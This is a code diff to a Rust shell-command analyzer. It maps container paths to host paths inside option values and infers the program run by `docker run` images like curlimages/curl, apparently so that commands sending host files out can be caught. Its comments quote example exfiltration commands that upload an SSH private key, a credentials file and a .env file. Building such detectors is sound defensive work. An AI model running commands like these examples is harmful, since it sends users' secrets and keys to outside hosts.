@@ -276,7 +276,20 @@ impl Place {
     /// Rewrite a container path to the host path it is mounted from; a path outside every mount
     /// of a throwaway container is marked `<container>/…` (it touches nothing on the host).
     pub fn map_path(&self, path: &mut String) {
+        // `--post-file=/a/credentials`, `-d@/h/.env`: the path inside an option's value.
         if !path.starts_with('/') {
+            let at = path
+                .find("=/")
+                .map(|i| i + 1)
+                .or_else(|| path.find("@/").map(|i| i + 1))
+                .filter(|_| path.starts_with('-') || path.contains("=@/"));
+            if let Some(at) = at {
+                let mut inner = path[at..].to_string();
+                self.map_path(&mut inner);
+                if !inner.starts_with("<container>") {
+                    path.replace_range(at.., &inner);
+                }
+            }
             return;
         }
         let best = self
@@ -1841,9 +1854,30 @@ fn container(spec: &SinkSpec, args: &[Word], push: &mut Push) {
     }
     // IMAGE (run) or CONTAINER (exec), then the command.
     let Some(target) = rest.get(j) else { return };
-    let cmd = &rest[j + 1..];
+    let mut cmd = rest[j + 1..].to_vec();
     if cmd.is_empty() {
         return;
+    }
+    // `docker run curlimages/curl -T /h/.ssh/id_rsa URL`: options first means the image's own
+    // program (named like the image: curl, wget, git, aws…) receives them.
+    if run && cmd[0].text.starts_with('-') {
+        let image = target.text.rsplit('/').next().unwrap_or("");
+        let program = image.split([':', '@']).next().unwrap_or("");
+        let program = program.strip_suffix("-cli").unwrap_or(program);
+        if !program.is_empty()
+            && program
+                .chars()
+                .all(|c| c.is_ascii_alphanumeric() || c == '-')
+        {
+            cmd.insert(
+                0,
+                Word {
+                    text: program.to_string(),
+                    span: target.span,
+                    ..Word::default()
+                },
+            );
+        }
     }
     let mut label = if run {
         format!("inside a new container of {}", target.text)
@@ -1863,5 +1897,5 @@ fn container(spec: &SinkSpec, args: &[Word], push: &mut Push) {
         place.map_path(&mut w);
         w
     });
-    push(Code::Argv(cmd.to_vec()), place);
+    push(Code::Argv(cmd), place);
 }
